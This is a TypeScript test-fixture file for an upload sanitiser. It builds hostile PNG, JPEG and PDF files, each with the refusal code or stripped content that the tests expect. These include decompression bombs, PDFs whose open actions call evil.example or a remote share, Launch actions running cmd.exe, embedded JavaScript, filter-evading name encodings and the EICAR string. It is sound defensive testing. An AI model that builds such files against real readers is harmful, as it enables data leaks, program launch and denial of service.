import { deflateSync } from 'node:zlib';
import { type UploadErrorCode } from '@casino-kit/api-contract';
import {
  announcesPictures,
  firstPdfObject,
  html,
  jpegComment,
  jpegEnd,
  jpegFrame,
  jpegScan,
  jpegSegment,
  jpegSize,
  jpegStart,
  makeJpeg,
  makePdf,
  makePdfWith,
  makePng,
  pdfStream,
  pngChunk,
  pngHeader,
  pngSignature,
  svg,
} from './document-files.js';

/** A complete file of an accepted type that harms the reader, or carries more than it shows. */
export interface HarmfulFile {
  what: string;
  name: string;
  bytes: Buffer;
  /** How it is refused; null for one that is kept without what harms. */
  code: UploadErrorCode | null;
  /** What must not be in the file that is kept. */
  gone: readonly string[];
}

type Row = readonly [what: string, bytes: Buffer, ...gone: string[]];
const toHarmfulFiles = (
  kind: string,
  name: string,
  code: UploadErrorCode | null,
  rows: readonly Row[],
): HarmfulFile[] =>
  rows.map(([what, bytes, ...gone]) => ({ what: `${kind} ${what}`, name, bytes, code, gone }));

const megabyte = 1024 * 1024;
/** So many equal bytes, packed: a thousandth of them. */
const packed = (megabytes: number, value = 0) =>
  deflateSync(Buffer.alloc(megabytes * megabyte, value), { level: 9 });
const text = (...parts: readonly (string | Buffer)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));

/** The harmless text that every virus scanner reports; never written out, so that none reports this file. */
export const eicar = [
  String.raw`X5O!P%@AP[4\PZX54(P^)7CC)7}`,
  '$EICAR-STANDARD-ANTIVIRUS-TEST-FILE',
  '!$H+H*',
].join('');

/** EXIF with a place, as phones write it: an empty list of tags, then what a reader finds by searching. */
const exif = text('Exif\0\0', 'II*\0\u0008\0\0\0\0\0\0\0\0\0', 'GPSLatitude 12.1091 GPSLongitude -68.9319');
const makePngOfChunks = (header: Buffer, ...chunks: readonly Buffer[]) =>
  Buffer.concat([pngSignature, header, ...chunks, pngChunk('IEND')]);
/** A header with its colour type, depth and interlacing. */
function makePngHeader({ width = 16, height = 16, depth = 8, color = 0, interlace = 0 }): Buffer {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data.set([depth, color, 0, 0, interlace], 8);
  return pngChunk('IHDR', data);
}
const frameControl = Buffer.alloc(26);

const pngs: readonly HarmfulFile[] = [
  ...toHarmfulFiles('a PNG', 'id.png', 'UPLOAD_UNREADABLE', [
    ['whose rows unpack to 100 MB', makePngOfChunks(pngHeader(), pngChunk('IDAT', packed(100)))],
    [
      'whose interlaced rows unpack to 50 MB',
      makePngOfChunks(makePngHeader({ interlace: 1 }), pngChunk('IDAT', packed(50))),
    ],
    [
      'with 400 MB of pixels',
      makePngOfChunks(
        makePngHeader({ width: 10_000, height: 10_000, color: 6 }),
        pngChunk('IDAT', packed(400)),
      ),
    ],
    [
      'with 800 MB of deep pixels',
      makePngOfChunks(
        makePngHeader({ width: 10_000, height: 10_000, depth: 16, color: 6 }),
        pngChunk('IDAT', packed(1)),
      ),
    ],
    [
      'whose rows are no packed data',
      makePngOfChunks(pngHeader(), pngChunk('IDAT', Buffer.from('not packed at all'))),
    ],
    [
      'with half of its rows',
      makePngOfChunks(pngHeader(), pngChunk('IDAT', deflateSync(Buffer.alloc(8 * 17)))),
    ],
    [
      'with a palette that is not there',
      makePngOfChunks(makePngHeader({ color: 3 }), pngChunk('IDAT', deflateSync(Buffer.alloc(16 * 17)))),
    ],
    [
      'of a depth that does not exist',
      makePngOfChunks(makePngHeader({ depth: 7 }), pngChunk('IDAT', deflateSync(Buffer.alloc(16 * 17)))),
    ],
    [
      'of a colour that does not exist',
      makePngOfChunks(makePngHeader({ color: 5 }), pngChunk('IDAT', deflateSync(Buffer.alloc(16 * 17)))),
    ],
  ]),
  ...toHarmfulFiles('a PNG', 'id.png', null, [
    ['whose colour profile unpacks to 200 MB', makeProfiled(packed(200)), 'iCCP'],
    ['whose text unpacks to 50 MB', makePng('x', pngChunk('zTXt', text('Comment\0\0', packed(50)))), 'zTXt'],
    [
      'whose international text unpacks to 50 MB',
      makePng('x', pngChunk('iTXt', text('Comment\0\u0001\0\0\0', packed(50)))),
      'iTXt',
    ],
    ['with the place where it was taken', makePng('x', pngChunk('eXIf', exif)), 'eXIf', 'GPSLatitude'],
    [
      'with the name of its author',
      makePng('x', pngChunk('tEXt', text('Author\0Anna Harbour'))),
      'Anna Harbour',
    ],
    [
      'with a program in a chunk',
      makePng('x', pngChunk('prGm', text('MZ\u0090\0', 'This program'))),
      'prGm',
      'This program',
    ],
    ['with a PDF in a chunk', makePng('x', pngChunk('pdFf', makePdf('inside'))), '%PDF-'],
    ['with EICAR in a chunk', makePng('x', pngChunk('teSt', Buffer.from(eicar))), 'EICAR'],
    [
      'that moves',
      makePng(
        'x',
        pngChunk('acTL', Buffer.alloc(8, 1)),
        pngChunk('fcTL', frameControl),
        pngChunk('fdAT', packed(20)),
      ),
      'fdAT',
    ],
  ]),
];
function makeProfiled(profile: Buffer): Buffer {
  const png = makePng('profiled');
  const behindHeader = pngSignature.length + pngHeader().length;
  const chunk = pngChunk('iCCP', text('sRGB\0\0', profile));
  return Buffer.concat([png.subarray(0, behindHeader), chunk, png.subarray(behindHeader)]);
}

const makeFramedJpeg = (frame: Buffer, ...rest: readonly Buffer[]) => {
  const jpeg = makeJpeg('sized');
  const at = jpeg.indexOf(jpegFrame);
  return Buffer.concat([
    jpeg.subarray(0, at),
    frame,
    jpeg.subarray(at + jpegFrame.length, jpeg.length - 2),
    ...rest,
    jpegEnd,
  ]);
};
const jpegs: readonly HarmfulFile[] = [
  ...toHarmfulFiles('a JPEG', 'id.jpg', 'UPLOAD_TYPE', [
    ['of 65,500 × 65,500 pixels', makeFramedJpeg(jpegSize(65_500, 65_500))],
  ]),
  ...toHarmfulFiles('a JPEG', 'id.jpg', 'UPLOAD_UNREADABLE', [
    ['of 10,900 × 11,000 pixels without data for them', makeFramedJpeg(jpegSize(10_900, 11_000))],
    ['in a hundred scans', makeFramedJpeg(jpegFrame, ...Array.from({ length: 99 }, () => jpegScan))],
    ['without its tables', Buffer.concat([jpegStart, jpegFrame, jpegScan, jpegEnd])],
  ]),
  ...toHarmfulFiles('a JPEG', 'id.jpg', null, [
    ['with the place where it was taken', makeJpeg('x', jpegSegment(0xe1, exif)), 'Exif', 'GPSLatitude'],
    [
      'with XMP',
      makeJpeg(
        'x',
        jpegSegment(0xe1, text('http://ns.adobe.com/xap/1.0/\0<x:xmpmeta photoshop:City="Willemstad"/>')),
      ),
      'Willemstad',
    ],
    ['with a comment', makeJpeg('x', jpegComment('written by Anna Harbour')), 'Anna Harbour'],
    [
      'with a broken colour profile',
      makeJpeg('x', jpegSegment(0xe2, text('ICC_PROFILE\0\u0001\u0001', 'not a profile'))),
      'not a profile',
    ],
    ['with a PDF in a comment', makeJpeg('x', jpegComment(makePdf('inside').toString('latin1'))), '%PDF-'],
    [
      'with another picture behind it',
      Buffer.concat([makeJpeg('x', announcesPictures), makeJpeg('the other one')]),
      'the other one',
    ],
    ['with EICAR in a comment', makeJpeg('x', jpegComment(eicar)), 'EICAR'],
  ]),
];

/** An update at the end of a PDF: these objects in place of earlier ones, or in addition to them. */
function updatePdf(pdf: Buffer, objects: Readonly<Record<number, string>>): Buffer {
  let file = pdf;
  const rows = Object.entries(objects).map(([number, object]) => {
    const place = file.length;
    file = text(file, `${number} 0 obj\n${object}\nendobj\n`);
    return `${number} 1\n${String(place).padStart(10, '0')} 00000 n \n`;
  });
  return text(
    file,
    `xref\n${rows.join('')}trailer\n<< /Size 99 /Root 1 0 R /Prev ${pdf.lastIndexOf('xref\n0 ')} >>\nstartxref\n${file.length}\n%%EOF\n`,
  );
}
const share = String.raw`(\\\\evil.example\\share\\a.pdf)`;
const link = (action: string, more = '') =>
  makePdfWith({
    page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << ${action} >> ${more} >>]`,
  });
const annotation = (subtype: string, more: string) =>
  makePdfWith({ page: `/Annots [<< /Type /Annot /Subtype /${subtype} /Rect [0 0 99 99] ${more} >>]` });
const opening = (action: string) => makePdfWith({ catalog: `/OpenAction ${action}` });
const next = firstPdfObject;
/** Objects in a packed list: the first of them is number 9. */
const listed = (
  object: string,
  dictionary = '/Filter /FlateDecode',
  data = deflateSync(Buffer.from(`9 0 ${object}`)),
) => pdfStream(`/Type /ObjStm /N 1 /First 4 ${dictionary}`, data);
const remote = `<< /S /GoToR /F ${share} /D [0 /Fit] >>`;
const toHex = (bytes: Buffer) => Buffer.from(`${bytes.toString('hex')}>`);

const active: readonly Row[] = [
  ['that opens a share', opening(remote)],
  ['that opens a share by an object', makePdfWith({ catalog: `/OpenAction ${next} 0 R` }, remote)],
  ['that opens a share, in a packed list', makePdfWith({ catalog: '/OpenAction 9 0 R' }, listed(remote))],
  [
    'that opens a share, in a list packed twice',
    makePdfWith(
      { catalog: '/OpenAction 9 0 R' },
      listed('', '/Filter [/ASCIIHexDecode /FlateDecode]', toHex(deflateSync(Buffer.from(`9 0 ${remote}`)))),
    ),
  ],
  [
    'that opens a share, in a list whose type is spelt',
    makePdfWith(
      { catalog: '/OpenAction 9 0 R' },
      pdfStream('/Type /O#62jStm /N 1 /First 4', Buffer.from(`9 0 ${remote}`)),
    ),
  ],
  ['that opens an address', opening('<< /S /URI /URI (https://evil.example/beacon) >>')],
  ['that prints itself', opening('<< /S /Named /N /Print >>')],
  [
    'that shows a page, then opens an address',
    opening('<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example) >> >>'),
  ],
  [
    'that shows a page, then does one of several things',
    opening(
      '<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] >> << /S /Named /N /Print >>] >>',
    ),
  ],
  ['with a script', opening('<< /S /JavaScript /JS (app.alert\\(1\\)) >>')],
  ['with a script whose name is spelt', opening('<< /S /#4aavaScript /J#53 (app.alert\\(1\\)) >>')],
  [
    'with a script in a stream',
    makePdfWith(
      { catalog: `/OpenAction << /S /JavaScript /JS ${next} 0 R >>` },
      pdfStream('', Buffer.from('app.alert(1)')),
    ),
  ],
  ['with a script that nothing refers to', makePdf('x', '<< /S /JavaScript /JS (app.alert\\(1\\)) >>')],
  ['with a script in a packed list', makePdf('x', listed('<< /S /JavaScript /JS (app.alert\\(1\\)) >>'))],
  [
    'with scripts by name',
    makePdfWith({ catalog: '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>' }),
  ],
  [
    'that opens an address when it is closed',
    makePdfWith({ catalog: '/AA << /WC << /S /URI /URI (https://evil.example) >> >>' }),
  ],
  [
    'whose page opens an address',
    makePdfWith({ page: '/AA << /O << /S /URI /URI (https://evil.example) >> >>' }),
  ],
  [
    'whose field opens an address',
    annotation('Widget', '/AA << /Fo << /S /URI /URI (https://evil.example) >> >>'),
  ],
  ['that starts a program', opening('<< /S /Launch /F (cmd.exe) >>')],
  ['that starts a program of Windows', opening('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>')],
  ['with a link that starts a program', link('/S /Launch /F (cmd.exe)')],
  ['with a link to a share', link(`/S /GoToR /F ${share} /D [0 /Fit]`)],
  ['with a link to a file in it', link('/S /GoToE /T << /R /C /N (a.pdf) >>')],
  [
    'with a link, after which a share opens',
    link(`/S /URI /URI (https://bank.example) /Next << /S /GoToR /F ${share} >>`),
  ],
  ['that sends a form', link('/S /SubmitForm /F (https://evil.example)')],
  ['that sends a form whose name is spelt', link('/S /Submit#46orm /F (https://evil.example)')],
  ['that reads data', link('/S /ImportData /F (C:\\\\secrets.fdf)')],
  ['that plays media', link('/S /Rendition /OP 0')],
  ['that plays a film', annotation('Movie', '/Movie << /F (film.mov) >>')],
  ['that plays a sound', annotation('Sound', '/Sound 6 0 R')],
  ['with a screen', annotation('Screen', '')],
  ['with rich media', annotation('RichMedia', '/RichMediaContent << >>')],
  ['with a model', annotation('3D', '')],
  [
    'with an attachment',
    annotation('FileAttachment', `/FS << /Type /Filespec /F (a.exe) /EF << /F ${next} 0 R >> >>`),
  ],
  [
    'with a file in it',
    makePdfWith(
      { catalog: `/Names << /EmbeddedFiles << /Names [(a) << /F (a.exe) /EF << /F ${next} 0 R >> >>] >> >>` },
      pdfStream('/Type /EmbeddedFile', Buffer.from('MZ')),
    ),
  ],
  [
    'with a file in it that nothing names',
    makePdf('x', `<< /F (a.exe) /EF << /F ${next + 1} 0 R >> >>`, pdfStream('', Buffer.from('MZ'))),
  ],
  ['with an address as a file', makePdf('x', '<< /FS /URL /F (https://evil.example/a.pdf) >>')],
  ['whose data is in another file', makePdfWith({}, pdfStream(`/F ${share}`, Buffer.alloc(0)))],
  [
    'that shows a page of another file',
    makePdf(
      'x',
      pdfStream(
        `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F ${share} /Page 0 >>`,
        Buffer.alloc(0),
      ),
    ),
  ],
  [
    'with an XFA form',
    makePdfWith(
      { catalog: `/AcroForm << /Fields [] /XFA ${next} 0 R >>` },
      pdfStream('', Buffer.from('<xdp:xdp/>')),
    ),
  ],
  [
    'with an XFA form in parts',
    makePdfWith(
      { catalog: `/AcroForm << /Fields [] /XFA [(form) ${next} 0 R] >>` },
      pdfStream('', Buffer.from('<form/>')),
    ),
  ],
  ['that is a collection of files', makePdfWith({ catalog: '/Collection << /View /T >>' })],
  [
    'with an update that opens a share',
    updatePdf(makePdf('x'), { 1: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${remote} >>` }),
  ],
  ['with an update that adds a script', updatePdf(makePdf('x'), { 20: '<< /S /JavaScript /JS (x) >>' })],
];

const encryption = `/Filter /Standard /V 1 /R 2 /P -4 /O <${'00'.repeat(32)}> /U <${'00'.repeat(32)}>`;
const pageWith = (stream: Buffer) => makePdfWith({ page: `/Annots [] /Contents ${next} 0 R` }, stream);
const makePdfPicture = (width: number, height: number) =>
  pdfStream(
    `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /FlateDecode`,
    packed(1),
  );

const kept: readonly Row[] = [
  ['with a link to a web site', link('/S /URI /URI (https://bank.example/help)'), 'bank.example'],
  ['with a link that prints', link('/S /Named /N /Print'), '/Named'],
  [
    'with a base for addresses',
    makePdfWith({ catalog: '/URI << /Base (https://evil.example/) >>' }),
    'evil.example',
  ],
  [
    'with an outline that leads to an address',
    makePdfWith(
      { catalog: `/Outlines ${next} 0 R` },
      `<< /First ${next + 1} 0 R >>`,
      '<< /Title (Help) /A << /S /URI /URI (https://evil.example) >> >>',
    ),
    'evil.example',
  ],
  ['that opens at its first page', opening('[3 0 R /FitH 842]'), '/OpenAction'],
  ['that goes to its first page', opening('<< /S /GoTo /D [3 0 R /Fit] >>'), '/GoTo'],
  [
    'with the name of its author',
    makePdfWith({ trailer: `/Info ${next} 0 R` }, '<< /Author (Anna Harbour) >>'),
    'Anna Harbour',
  ],
  [
    'with XMP',
    makePdfWith(
      { catalog: `/Metadata ${next} 0 R` },
      pdfStream('/Type /Metadata /Subtype /XML', Buffer.from('<x:xmpmeta>Willemstad</x:xmpmeta>')),
    ),
    'Willemstad',
  ],
  [
    'with the data of an editor',
    makePdfWith({ page: '/PieceInfo << /Editor << /Private (C:\\\\Users\\\\anna) >> >>' }),
    'PieceInfo',
  ],
  [
    'with an earlier version with a script',
    updatePdf(makePdf('x', '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'), { [next]: '(nothing)' }),
    'app.alert',
  ],
  [
    'with an earlier version of its page',
    updatePdf(makePdf('x', '(secret of before)'), { [next]: '(now)' }),
    'secret of before',
  ],
  ['with an object that nothing refers to', makePdf('x', '(left behind)'), 'left behind'],
  [
    'with a field to fill in',
    annotation('Widget', '/FT /Tx /T (iban) /V (NL91ABNA0417164300)'),
    'NL91ABNA0417164300',
  ],
  ['with a note', annotation('Text', '/Contents (call me)'), 'call me'],
  [
    'with EICAR in a comment',
    text(makePdf('x').subarray(0, 15), `%${eicar}\n`, makePdf('x').subarray(15)),
    'EICAR',
  ],
  ['with EICAR in an object', makePdf('x', pdfStream('', Buffer.from(eicar))), 'EICAR'],
  [
    'with a picture in a comment',
    text(
      makePdf('x').subarray(0, 15),
      `%${makeJpeg('in a pdf')
        .toString('latin1')
        .replaceAll(/[\r\n]/g, ' ')}\n`,
      makePdf('x').subarray(15),
    ),
    'in a pdf',
  ],
];

const pdfs: readonly HarmfulFile[] = [
  ...toHarmfulFiles('a PDF', 'bill.pdf', 'UPLOAD_PDF_ACTIVE', active),
  ...toHarmfulFiles('a PDF', 'bill.pdf', 'UPLOAD_PDF_LOCKED', [
    ['that is encrypted', makePdfWith({ trailer: `/Encrypt << ${encryption} >>` })],
    [
      'that is encrypted by an object',
      makePdfWith({ trailer: `/Encrypt ${next} 0 R /ID [<00> <00>]` }, `<< ${encryption} >>`),
    ],
    ['that is encrypted by an object that is not there', makePdfWith({ trailer: '/Encrypt 77 0 R' })],
  ]),
  ...toHarmfulFiles('a PDF', 'bill.pdf', 'UPLOAD_UNREADABLE', [
    [
      'whose packed list unpacks to 100 MB',
      // A reader without a bound would take it.
      makePdf(
        'x',
        listed(
          '',
          '/Filter /FlateDecode',
          deflateSync(text('9 0 null', Buffer.alloc(100 * megabyte, 32)), { level: 9 }),
        ),
      ),
    ],
    ['whose page unpacks to 100 MB', pageWith(pdfStream('/Filter /FlateDecode', packed(100, 32)))],
    [
      'whose page is packed twice',
      pageWith(pdfStream('/Filter [/FlateDecode /FlateDecode]', deflateSync(packed(100, 32)))),
    ],
    [
      'with a picture of 65,000 × 65,000 pixels',
      makePdfWith({ page: `/Resources << /XObject << /A ${next} 0 R >> >>` }, makePdfPicture(65_000, 65_000)),
    ],
    ['without pages', updatePdf(makePdf('x'), { 2: '<< /Type /Pages /Kids [] /Count 0 >>' })],
    [
      'whose pages are their own pages',
      updatePdf(makePdf('x'), { 2: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' }),
    ],
    ['without a catalog', updatePdf(makePdf('x'), { 1: '(nothing)' })],
    ['with an object that is cut off', makePdf('x', '<< /A [1 2 ')],
    ['of lists in lists', makePdf('x', `${'['.repeat(200_000)}${']'.repeat(200_000)}`)],
    [
      'of 300 pages',
      updatePdf(makePdf('x'), { 2: `<< /Type /Pages /Kids [${'3 0 R '.repeat(300)}] /Count 300 >>` }),
    ],
  ]),
  ...toHarmfulFiles('a PDF', 'bill.pdf', null, kept),
];

const box = (brand: string) => text('\0\0\0\u0018ftyp', brand, '\0\0\0\0mif1', brand);
const disguised: readonly HarmfulFile[] = [
  ...toHarmfulFiles('a renamed', 'id.png', 'UPLOAD_TYPE', [
    ['WebP', text('RIFF\u0024\0\0\0WEBPVP8 ', Buffer.alloc(24))],
    ['GIF', text('GIF89a\u0001\0\u0001\0\0\0\0;')],
    ['SVG', svg],
    ['page', html],
    ['AVIF', box('avif')],
    ['TIFF', text('II*\0\u0008\0\0\0')],
    ['bitmap', text('BM', Buffer.alloc(64))],
    ['icon', text('\0\0\u0001\0\u0001\0', Buffer.alloc(40))],
  ]),
  ...toHarmfulFiles('a renamed', 'id.jpg', 'UPLOAD_TYPE', [
    ['HEIC', box('heic')],
    ['JPEG 2000', text('\0\0\0\u000cjP  \r\n\u0087\n')],
  ]),
  ...toHarmfulFiles('a renamed', 'bill.pdf', 'UPLOAD_TYPE', [
    ['PostScript file', text('%!PS-Adobe-3.0\nshowpage\n')],
    ['form of data', text('%FDF-1.2\n%%EOF\n')],
  ]),
];

/** Complete files that harm the reader: refused, or kept without the harmful part. */
export const harmfulFiles: readonly HarmfulFile[] = [...pngs, ...jpegs, ...pdfs, ...disguised];
